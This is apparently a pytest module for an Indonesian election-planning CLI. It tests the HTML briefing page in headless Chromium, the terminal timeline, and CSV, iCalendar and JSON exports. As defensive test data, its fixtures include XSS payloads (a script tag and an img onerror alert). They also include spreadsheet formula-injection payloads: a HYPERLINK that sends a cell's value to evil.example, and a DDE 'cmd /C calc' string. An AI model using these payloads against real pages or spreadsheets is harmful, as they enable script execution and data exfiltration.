"""Issue 13: the briefing page in a real browser (Debian's headless Chromium), the terminal timeline, and
the CSV, iCalendar and JSON exports."""

import csv
import io
import json
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from conftest import PLAN, POLDA, REGIONS_KPU, REGIONS_PLAN, write_plan

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--hide-scrollbars"]


def browser(*args: str) -> subprocess.CompletedProcess:
    """Headless Chromium with a fresh profile; its network is a closed port, so nothing can be fetched."""
    if CHROMIUM is None:
        if os.environ.get("CI"):
            pytest.fail("chromium is required in CI (.ci/run installs it)")
        pytest.skip("chromium is not installed (apt-get install chromium)")
    with tempfile.TemporaryDirectory() as profile:
        return subprocess.run([CHROMIUM, *FLAGS, f"--user-data-dir={profile}", "--proxy-server=127.0.0.1:9",
                               *args], capture_output=True, text=True, timeout=120)


@pytest.fixture
def hostile_plan(isolated):
    plan = PLAN.replace("name: Rencana Uji", 'name: "Rencana <script>document.title=\'PWNED\'</script> Uji"')
    polda = POLDA.replace("title: Patroli", 'title: "<img src=x onerror=alert(1)> Patroli & <b>tebal</b>"')
    return write_plan(isolated / "jahat", plan, {"polda.yaml": polda})


def test_plan_text_is_escaped_in_the_page_and_the_mail(run, hostile_plan, tmp_path):
    """Jinja2's autoescaping, checked in the HTML itself: without it the test below would not fail but hang,
    its browser waiting on the alert() the hostile item opens."""
    from datetime import date, datetime, timezone

    from pilkada_cli.plan import load_plan
    from pilkada_cli.render.summary_text import as_html
    from pilkada_cli.report.status import Clock, Filters
    from pilkada_cli.report.summary import Since, build_summary

    page = tmp_path / "briefing.html"
    assert run("report", "--html", str(page), "--plan", str(hostile_plan), "--on", "2024-11-20").exit_code == 0
    plan = load_plan(hostile_plan)
    mail = as_html(build_summary(plan, {}, {}, Clock(datetime(2024, 11, 20, tzinfo=timezone.utc), date(2024, 11, 20)),
                                 Filters(), Since(date(2024, 11, 19), "yesterday")), "id")
    for html in (page.read_text(encoding="utf-8"), mail):
        assert "<script>" not in html and "<img" not in html and "<b>tebal" not in html
        assert "Rencana &lt;script&gt;document.title=&#39;PWNED&#39;&lt;/script&gt; Uji" in html
        assert "&lt;img src=x onerror=alert(1)&gt; Patroli &amp; &lt;b&gt;tebal&lt;/b&gt;" in html


def test_the_page_of_a_hand_written_plan_renders_safely_in_a_browser(run, hostile_plan, tmp_path):
    p = str(hostile_plan)
    run("tick", "apel", "--plan", p, "--on", "2024-08-20")
    page = tmp_path / "briefing.html"
    result = run("report", "--html", str(page), "--plan", p, "--on", "2024-11-12", "--refresh", "300")
    assert result.exit_code == 0, result.output
    html = page.read_text(encoding="utf-8")
    # self-contained: no address anywhere a browser would fetch from
    for marker in ("http://", "https://", "src=\"//", "@import", "<link"):
        assert marker not in html, marker
    assert '<meta http-equiv="refresh" content="300">' in html
    assert "<script>" not in html and "<img" not in html  # else the browser would wait on an alert(), not fail
    dom = browser("--dump-dom", page.as_uri())
    assert dom.returncode == 0, dom.stderr
    assert 'id="countdown"' in dom.stdout and "H-15" in dom.stdout
    # the hostile title shows as text, and its script never ran
    assert "&lt;script&gt;document.title='PWNED'&lt;/script&gt;" in dom.stdout
    assert "<title>Rencana &lt;script&gt;document.title='PWNED'&lt;/script&gt; Uji · H-15</title>" in dom.stdout
    assert "<img src=\"x\"" not in dom.stdout and "&lt;img src=x onerror=alert(1)&gt;" in dom.stdout
    shot = tmp_path / "page.png"
    taken = browser("--window-size=1280,1600", f"--screenshot={shot}", page.as_uri())
    assert taken.returncode == 0 and shot.stat().st_size > 20_000 and shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_the_bundled_plan_page_prints_on_a4(run, tmp_path):
    page = tmp_path / "briefing.html"
    assert run("report", "--html", str(page), "--on", "2024-10-15").exit_code == 0
    html = page.read_text(encoding="utf-8")
    assert "Pilkada Serentak 2024" in html and "size: A4" in html
    assert "Peta kerawanan" in html and "Go/No-Go" in html and "Progres per wilayah" in html
    pdf = tmp_path / "briefing.pdf"
    printed = browser("--no-pdf-header-footer", f"--print-to-pdf={pdf}", page.as_uri())
    assert printed.returncode == 0 and pdf.read_bytes()[:5] == b"%PDF-" and pdf.stat().st_size > 10_000
    english = tmp_path / "en.html"
    assert run("report", "--html", str(english), "--on", "2024-10-15", "--lang", "en").exit_code == 0
    assert "Progress by region" in english.read_text(encoding="utf-8")


def test_the_summary_mail_uses_the_same_templates(run, plan_dir):
    from pilkada_cli.render.summary_text import as_html
    from pilkada_cli.report.status import Clock, Filters
    from pilkada_cli.report.summary import Since, build_summary
    from pilkada_cli.plan import load_plan
    from datetime import date, datetime, timezone

    plan = load_plan(plan_dir)
    report = build_summary(plan, {}, {}, Clock(datetime(2024, 8, 2, tzinfo=timezone.utc), date(2024, 8, 2)),
                           Filters(), Since(date(2024, 8, 1), "yesterday"))
    html = as_html(report, "id")
    assert html.startswith("<!DOCTYPE html>") and "<li>" in html and "size: A4" in html


# -- the timeline


@pytest.mark.parametrize("columns", [80, 132])
def test_the_timeline_fits_and_marks_today_and_the_vote(run, columns):
    result = run("timeline", "--on", "2024-10-15", env={"COLUMNS": str(columns)})
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert all(len(line) <= columns for line in lines)
    assert any("▼" in line and "H" in line for line in lines[:4])  # today and the vote day on the scale
    assert any(line.startswith("Kampanye") and "█" in line for line in lines)
    assert any(line.startswith("‼ Polda NTT") for line in lines)
    narrow = run("timeline", "--on", "2024-10-15", "--region", "belu", env={"COLUMNS": str(columns)})
    assert narrow.exit_code == 0 and "Polres" in narrow.stdout


# -- the exports


def test_csv_rows_are_the_items_list_shows(run):
    listed = json.loads(run("list", "--json", "--on", "2024-10-15", "--stakeholder", "polda", "--critical").stdout)
    text = run("export", "--format", "csv", "--on", "2024-10-15", "--stakeholder", "polda", "--critical").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["id"] for r in rows] == [x["id"] for x in listed]
    assert rows[0]["critical"] == "true" and rows[0]["state"] == listed[0]["state"]


def test_csv_for_excel_in_an_indonesian_locale(run, tmp_path):
    out = tmp_path / "pilkada.csv"
    assert run("export", "--excel", "--output", str(out), "--on", "2024-10-15").exit_code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Id" and len(rows) > 100  # headers in the output language (issue 21)
    quantitative = next(r for r in rows if r[0] == "pemprov/pencairan-nphd-kpu")
    assert quantitative[rows[0].index("Target")] == "100"


def test_ics_parses_and_uids_survive_a_change_of_vote_day(run, plan_dir):
    from icalendar import Calendar

    first = Calendar.from_ical(run("export", "--format", "ics", "--plan", str(plan_dir)).stdout.encode())
    events = {str(e["UID"]): e for e in first.walk("VEVENT")}
    assert "polda/apel@rencana-uji" in events and "hari-h@rencana-uji" in events
    assert "phase-kampanye@rencana-uji" in events
    apel = events["polda/apel@rencana-uji"]
    assert str(apel["DTSTART"].dt) == "2024-08-26" and str(apel["DTEND"].dt) == "2024-08-27"
    due = {x["id"] for x in json.loads(run("list", "--json", "--plan", str(plan_dir)).stdout) if x["due"]}
    assert due <= {uid.removesuffix("@rencana-uji") for uid in events}
    (plan_dir / "pilkada.yaml").write_text(PLAN.replace("vote_date: 2024-11-27", "vote_date: 2024-12-04"))
    moved = Calendar.from_ical(run("export", "--format", "ics", "--plan", str(plan_dir)).stdout.encode())
    moved_events = {str(e["UID"]): e for e in moved.walk("VEVENT")}
    assert set(moved_events) == set(events)  # the same UIDs: a re-import updates
    patrol = "polda/patroli@rencana-uji"
    assert moved_events[patrol]["DTSTART"].dt != events[patrol]["DTSTART"].dt


def test_json_export_is_the_status_object(run):
    exported = json.loads(run("export", "--format", "json", "--on", "2024-10-15").stdout)
    assert exported == json.loads(run("status", "--json", "--on", "2024-10-15").stdout)
    assert run("export", "--format", "xlsx").exit_code == 2


# -- a spreadsheet never runs what a plan says, and speaks the output language


FORMULAS = """\
stakeholder: kpu
phase: persiapan
items:
  - id: tautan
    title: '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    owner: '@SUM(1+1)*cmd|'' /C calc''!A0'
    due: H-100
  - id: plus
    title: "+62 812 3456"
    owner: "-Sekretariat"
    due: H-90
"""


def _excel_rows(text: str) -> list[list[str]]:
    import csv
    import io

    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_formula_cells_get_an_apostrophe_and_numbers_stay_numbers(run, isolated):
    root = write_plan(isolated / "rumus", REGIONS_PLAN.format(plan_id="rumus"), {"kpu.yaml": FORMULAS})
    rows = _excel_rows(run("export", "--excel", "--plan", str(root), "--on", "2024-08-28").stdout)
    head, *body = rows
    cells = {row[0]: dict(zip(head, row)) for row in body}
    assert cells["kpu/tautan"]["Kegiatan"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")"
    assert cells["kpu/tautan"]["Penanggung jawab"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["kpu/plus"]["Kegiatan"] == "'+62 812 3456" and cells["kpu/plus"]["Penanggung jawab"] == "'-Sekretariat"
    assert cells["kpu/tautan"]["Sisa hari"] == "-9"  # a number, not text: no apostrophe
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in body for cell in row)
    plain = run("export", "--format", "csv", "--plan", str(root), "--on", "2024-08-28").stdout
    assert '"=HYPERLINK(' in plain  # the CSV for programs keeps the exact text


def test_excel_speaks_the_output_language_and_so_does_the_calendar(run, plan_dir):
    from icalendar import Calendar

    for lang, headers, state, yes in (("id", ["Id", "Pemangku kepentingan"], "terlambat", "ya"),
                                      ("en", ["Id", "Stakeholder"], "overdue", "yes")):
        head, *body = _excel_rows(run("export", "--excel", "--lang", lang, "--plan", str(plan_dir),
                                      "--on", "2024-08-28").stdout)
        assert head[:2] == headers and "state" not in head
        cells = {row[0]: dict(zip(head, row)) for row in body}
        assert cells["polda/apel"][head[9]] == state
        assert cells["polda/pemetaan-kerawanan"][head[14]] == yes
        calendar = Calendar.from_ical(run("export", "--format", "ics", "--lang", lang, "--plan", str(plan_dir),
                                          "--on", "2024-08-28").stdout.encode())
        apel = next(e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("polda/apel@"))
        assert f": {state}" in str(apel["DESCRIPTION"])
        vote_day = next(e for e in calendar.walk("VEVENT") if str(e["UID"]).startswith("hari-h@"))
        assert str(vote_day["SUMMARY"]).startswith("Hari H" if lang == "id" else "Vote day")


# -- the briefing page: its refresh, the regions' colours, the chart


@pytest.mark.parametrize("seconds, code", [("99999999999999999999", 2), ("86401", 2), ("9", 2), ("86400", 0)])
def test_report_refresh_is_bounded(run, plan_dir, isolated, seconds, code):
    result = run("report", "--html", str(isolated / "b.html"), "--refresh", seconds, "--plan", str(plan_dir))
    assert result.exit_code == code, result.output
    if code:
        assert "di luar batas" in result.stderr and not (isolated / "b.html").exists()
    else:
        assert 'content="86400"' in (isolated / "b.html").read_text()


PACE_PLAN = REGIONS_PLAN.replace("  - id: ambon\n    name: Kota Ambon\n",
                                 "  - id: ambon\n    name: Kota Ambon\n  - id: alor\n    name: Kabupaten Alor\n")


PACE = "stakeholder: polres\nphase: persiapan\nitems:\n" + "".join(
    f"  - id: tugas-{n}\n    title: Tugas {n}\n    due: H-{100 + n}\n" for n in range(12)) + \
    "  - id: tunggu\n    title: Menunggu\n    due: H-5\n    critical: true\n    depends_on: [tugas-0]\n"


def _pace_rows(html: str) -> dict[str, str]:
    import re

    return {name: pace for pace, name in re.findall(r'<tr class="([a-z-]+)"><td>([^<]+)</td>', html)}


def test_region_colours_follow_one_stated_rule(run, isolated):
    root = write_plan(isolated / "laju", PACE_PLAN.format(plan_id="laju"),
                      {"polres.yaml": PACE, "kpu.yaml": REGIONS_KPU})
    plan = ["--plan", str(root)]
    run("tick", *[f"polres/tugas-{n}@ambon" for n in range(12)], "--on", "2024-08-01", *plan)  # all it owes
    run("tick", *[f"polres/tugas-{n}@belu" for n in range(1, 12)], "--on", "2024-08-01", *plan)  # one of 12 late
    page = isolated / "b.html"
    assert run("report", "--html", str(page), "--on", "2024-09-01", *plan).exit_code == 0
    html = page.read_text(encoding="utf-8")
    rows = _pace_rows(html)
    # Alor: nothing done, 12 of 13 due: far behind. Belu: 1 of 13 late, 7.7 points: behind. Ambon: nothing
    # overdue, so never behind, whatever its progress.
    assert rows == {"Kabupaten Alor": "far-behind", "Kabupaten Belu": "behind", "Kota Ambon": "on-track"}
    assert list(rows) == ["Kabupaten Alor", "Kabupaten Belu", "Kota Ambon"]  # furthest behind first
    assert "tertinggal lebih dari 10 poin" in html and "Semestinya" in html


def test_the_chart_marks_today_in_words_and_no_mark_needs_a_font(run, isolated):
    root = write_plan(isolated / "laju", PACE_PLAN.format(plan_id="laju"),
                      {"polres.yaml": PACE, "kpu.yaml": REGIONS_KPU})
    page = isolated / "b.html"
    assert run("report", "--html", str(page), "--on", "2024-11-20", "--plan", str(root)).exit_code == 0
    html = page.read_text(encoding="utf-8")
    assert html.count('<text class="today"') == 2 and html.count(">hari ini</text>") == 2
    assert 'stroke="#b3261e"' not in html  # the line is not a series' red
    assert "⛔" not in html and '<svg class="mark"' in html and "menunggu polres/tugas-0@" in html
    assert "terlambat 104 hari" in html and ">-104<" not in html
